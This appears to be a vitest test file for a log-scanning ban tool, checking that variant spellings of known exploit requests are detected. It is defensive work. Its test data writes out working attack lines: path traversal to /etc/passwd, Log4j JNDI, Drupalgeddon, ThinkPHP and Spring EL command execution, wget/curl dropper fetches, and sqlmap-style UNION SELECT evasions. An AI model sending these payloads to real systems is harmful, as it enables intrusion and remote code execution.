/**
 * Issue 13, round 5: a probe the server still serves must still be counted, however it is spelled.
 * Each request below is a spelling the vulnerable software (or the server in front of it) accepts for
 * the same exploit; every one is replayed with every preset on (replay --all-rules) and must be banned
 * by the preset that names it, at its threshold (exploit-probes: one request). Test addresses only.
 */
import { describe, expect, it } from 'vitest';
import { line, presetMatches, replayAll, T0 } from '../presets-variants/harness.js';

/** The rules that banned each address of `lines` (one request per address). */
async function bansByIp(lines: string[]): Promise<Map<string, string[]>> {
  const report = await replayAll(lines);
  const out = new Map<string, string[]>();
  for (const b of report.bans) out.set(b.ip, [...(out.get(b.ip) ?? []), b.rule]);
  return out;
}

/** Replays one request per entry from 198.19.<block>.<i+1> and expects each banned by `rule`. */
async function expectEachBanned(block: number, requests: readonly (readonly [string, number])[], rule: string): Promise<void> {
  const lines = requests.map(([req, status], i) => line(`198.19.${block}.${i + 1}`, T0 + i, req, status));
  const bans = await bansByIp(lines);
  const missed = requests.filter((_, i) => !(bans.get(`198.19.${block}.${i + 1}`) ?? []).includes(rule)).map(([req]) => req);
  expect(missed).toEqual([]);
}

describe('exploit-probes: overlong UTF-8 and %u spellings of ../ (GlassFish, old Tomcat, IIS)', () => {
  // decodeURIComponent refuses overlong UTF-8, and the byte-by-byte fallback read `%c0%ae` as two
  // Latin-1 characters: the traversal patterns never saw `../`. GlassFish (CVE-2017-1000028) serves
  // the first; IIS the Unicode traversal to cmd.exe and `%u002e`.
  it('bans each one-shot traversal', async () => {
    await expectEachBanned(
      140,
      [
        ['GET /theme/META-INF/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd HTTP/1.1', 404],
        ['GET /theme/META-INF/prototype%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd HTTP/1.1', 200],
        ['GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0', 404],
        ['GET /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', 404],
        ['GET /%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd HTTP/1.1', 400],
        ['GET /static/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd HTTP/1.1', 404],
        ['GET /files/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/etc/passwd HTTP/1.1', 404],
      ],
      'exploit-probes',
    );
  });
  it('still reads a Latin-1 search and escape()d text as text (no rule counts them)', () => {
    for (const q of ['caf%E9+cr%E8me', '%u00e9t%u00e9+%u00e0+Paris', '100%25+cotton', '50%+off']) {
      for (const rule of ['exploit-probes', 'sensitive-paths', 'sqli-probes', 'xss-probes']) {
        expect([rule, q, presetMatches(rule, line('198.18.140.1', T0, `GET /search?q=${q} HTTP/1.1`, 200))]).toEqual([rule, q, false]);
      }
    }
  });
});

describe('exploit-probes: traversal with a dot segment inside the file name\'s path (one request)', () => {
  // Grafana (CVE-2021-43798) and Apache (CVE-2021-41773) open the file with `./` and `x/../` resolved:
  // `../../etc/./passwd` is /etc/passwd, but `../.*etc/passwd` did not match it.
  it('bans each', async () => {
    await expectEachBanned(
      147,
      [
        ['GET /public/plugins/grafana/../../../../../../etc/./passwd HTTP/1.1', 200],
        ['GET /public/plugins/alertlist/../../../../../../etc/x/../passwd HTTP/1.1', 200],
        ['GET /public/plugins/text/../../../../../../../etc//./shadow HTTP/1.1', 200],
        ['POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/./sh HTTP/1.1', 200],
        ['GET /static/..%2f..%2f..%2f..%2fwindows/./win.ini HTTP/1.1', 404],
      ],
      'exploit-probes',
    );
  });
});

describe('exploit-probes: payload spellings the target still runs (one request)', () => {
  it('bans each', async () => {
    await expectEachBanned(
      141,
      [
        // Log4j resolves `${foo:bar:-n}` to n: jndi spelled around a lookup, in the path as in headers.
        ['GET /${j${foo:bar:-n}di:ldap://198.18.9.9/a} HTTP/1.1', 404],
        // Drupalgeddon 2 on Drupal 8: the payload is in the body, the query names the #value element.
        ['POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1', 200],
        ['POST /user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1', 200],
        ['POST /?q=file/ajax/name/%23value/form-x1 HTTP/1.1', 200],
        // ThinkPHP 5.0.23's __construct RCE with its parameters in the query.
        ['GET /index.php?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id HTTP/1.1', 200],
        // Droppers behind `$(…)` or a line feed instead of `;`.
        ['GET /cgi-bin/x.cgi?ip=1%24%28wget+http%3A%2F%2F198.18.9.9%2Fm.sh%29 HTTP/1.1', 404],
        ['GET /ping.php?host=1%0acurl+-s+http://198.18.9.9/m.sh HTTP/1.1', 200],
        // PHP wrappers that run a command or carry PHP.
        ['GET /index.php?page=expect://id HTTP/1.1', 200],
        ['GET /index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B HTTP/1.1', 200],
        // Confluence CVE-2022-26134's most common payload, Spring EL, F5 iControl REST.
        ['GET /%24%7Bnew%20javax.script.ScriptEngineManager%28%29.getEngineByName%28%22nashorn%22%29.eval%28%22x%22%29%7D/ HTTP/1.1', 302],
        ['GET /greeting?name=%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D HTTP/1.1', 200],
        ['POST /mgmt/tm/util/bash HTTP/1.1', 404],
      ],
      'exploit-probes',
    );
  });
});

describe('path info after the script name: the server still runs the script', () => {
  // Apache (AcceptPathInfo, on for PHP handlers) and nginx's usual `location ~ [^/]\.php(/|$)` run
  // /xmlrpc.php/x as xmlrpc.php: the patterns anchored at `.php$` let the probe through uncounted.
  it('exploit-probes bans Cacti, Telerik and ZoneMinder probes with a path info', async () => {
    await expectEachBanned(
      142,
      [
        ['GET /remote_agent.php/?action=polldata&poller_id=1&host_id=1&local_data_ids[]=1 HTTP/1.1', 404],
        ['POST /Telerik.Web.UI.WebResource.axd/x?type=rau HTTP/1.1', 404],
        ['POST /zm/index.php/?view=request&request=log&task=create&level=ERR&message=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', 200],
      ],
      'exploit-probes',
    );
  });

  it('xmlrpc bans system.multicall brute force POSTed to /xmlrpc.php/ (5 in a minute)', async () => {
    const ip = '198.19.143.1';
    const lines = Array.from({ length: 5 }, (_, i) => line(ip, T0 + i * 5, `POST /${i % 2 ? 'blog/' : ''}xmlrpc.php/${i % 3 ? 'x' : ''} HTTP/1.1`, 200));
    expect((await bansByIp(lines)).get(ip) ?? []).toContain('xmlrpc');
  });

  it('login-bruteforce bans failed logins POSTed to /wp-login.php/ (5 in 5 minutes)', async () => {
    const ip = '198.19.143.2';
    const lines = Array.from({ length: 5 }, (_, i) => line(ip, T0 + i * 20, 'POST /wp-login.php/ HTTP/1.1', 200));
    expect((await bansByIp(lines)).get(ip) ?? []).toContain('login-bruteforce');
  });

  it('still leaves a backup copy of the script alone', () => {
    expect(presetMatches('xmlrpc', line('198.18.143.3', T0, 'POST /xmlrpc.php.bak HTTP/1.1', 404))).toBe(false);
    expect(presetMatches('login-bruteforce', line('198.18.143.3', T0, 'POST /wp-login.php.old HTTP/1.1', 200))).toBe(false);
  });
});

describe('exploit-probes: spellings Apache, nginx and Java servers serve as the probe path', () => {
  // A regression net over the path signatures: each spelling below reaches the same handler on at
  // least one server in front of the vulnerable software, and must be counted like the plain one.
  const PROBES = [
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/php/ztp_gate.php/.js.map',
    '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp',
    '/remote/fgt_lang',
    '/_ignition/execute-solution',
    '/vendor/htmlawed/htmlawed/htmLawedTest.php',
    '/api/v2/cmdb/system/admin/admin',
    '/mgmt/tm/util/bash',
  ];
  const hex = (c: string, lower: boolean): string => {
    const h = c.charCodeAt(0).toString(16).padStart(2, '0');
    return `%${lower ? h : h.toUpperCase()}`;
  };
  function spellings(p: string): [string, string][] {
    const out: [string, string][] = [];
    for (let i = 1; i < p.length; i++) {
      const c = p[i]!;
      if (c === '/') {
        out.push([`//@${i}`, `${p.slice(0, i)}/${p.slice(i)}`]);
        out.push([`/./@${i}`, `${p.slice(0, i)}/.${p.slice(i)}`]);
        out.push([`;x@${i}`, `${p.slice(0, i)};jsessionid=1${p.slice(i)}`]);
        out.push([`\\@${i}`, `${p.slice(0, i)}\\${p.slice(i + 1)}`]);
        out.push([`/x/..@${i}`, `${p.slice(0, i)}/x/..${p.slice(i)}`]);
        continue;
      }
      out.push([`%XX@${i}`, p.slice(0, i) + hex(c, false) + p.slice(i + 1)]);
      out.push([`%xx@${i}`, p.slice(0, i) + hex(c, true) + p.slice(i + 1)]);
    }
    out.push(['upper', p.toUpperCase()], ['query', `${p}?a=1`], ['fragment', `${p}#x`], ['absolute', `http://example.test${p}`], ['absolute-port', `https://example.test:8443${p}`]);
    return out;
  }
  for (const p of PROBES) {
    it(`counts every spelling of ${p}`, () => {
      const missed: string[] = [];
      for (const [label, target] of spellings(p)) {
        for (const method of ['GET', 'HEAD', 'POST', 'PUT']) {
          if (!presetMatches('exploit-probes', line('198.19.144.1', T0, `${method} ${target} HTTP/1.1`, 404))) missed.push(`${method} ${label}: ${target}`);
        }
      }
      expect(missed).toEqual([]);
    });
  }
});

describe('sqli-probes: MySQL comment spellings of UNION SELECT (sqlmap tamper scripts, 5 in 10 minutes)', () => {
  // space2morehash / versionedmorekeywords turn every payload of a run into these forms: none was counted.
  it('bans a run of comment-spelled payloads', async () => {
    const ip = '198.19.145.1';
    const payloads = [
      '1+union%23xyz%0aselect+1,2',
      '1+UNION%23%0aALL%23%0aSELECT+1,2,3',
      '1+union--+x%0aselect+1,2,3,4',
      '1+/*!50000union*/+/*!50000select*/+1,2',
      '1+/*!UNION*/+/*!SELECT*/+table_name+from+x',
    ];
    const lines = payloads.map((p, i) => line(ip, T0 + i * 3, `GET /item.php?id=${p} HTTP/1.1`, 200, 'Mozilla/5.0'));
    expect((await bansByIp(lines)).get(ip) ?? []).toContain('sqli-probes');
  });
});

describe('login-bruteforce: the other doors to Drupal\'s login (5 in 5 minutes)', () => {
  // Drupal serves its login at /index.php/user/login and (Drupal 7, clean URLs or not) at ?q=user/login,
  // and its JSON login answers failures 400: each was a way to guess passwords uncounted.
  const doors: [string, string, number][] = [
    ['index.php prefix', 'POST /index.php/user/login HTTP/1.1', 200],
    ['Drupal 7 ?q=', 'POST /?q=user/login HTTP/1.1', 200],
    ['Drupal 7 ?q= behind index.php', 'POST /index.php?q=user HTTP/1.1', 200],
    ['JSON login', 'POST /user/login?_format=json HTTP/1.1', 400],
  ];
  doors.forEach(([name, req, status], d) => {
    it(`bans guessing through ${name}`, async () => {
      const ip = `198.19.146.${d + 1}`;
      const lines = Array.from({ length: 5 }, (_, i) => line(ip, T0 + i * 20, req, status));
      expect((await bansByIp(lines)).get(ip) ?? []).toContain('login-bruteforce');
    });
  });
});

describe('wp-user-enum: ?author= with a blank before the id (5 in 10 minutes)', () => {
  // WordPress splits the author query on blanks and reads each part as a number: `?author=+1` is
  // author 1's archive, which names the author's slug, and `author=\d` never saw it.
  it('bans a walk of ?author=+N', async () => {
    const ip = '198.19.148.1';
    const spellings = ['+1', '%2B2', '%203', '+4', '%2B5'];
    const lines = spellings.map((a, i) => line(ip, T0 + i * 2, `GET /?author=${a} HTTP/1.1`, 200));
    expect((await bansByIp(lines)).get(ip) ?? []).toContain('wp-user-enum');
  });
});
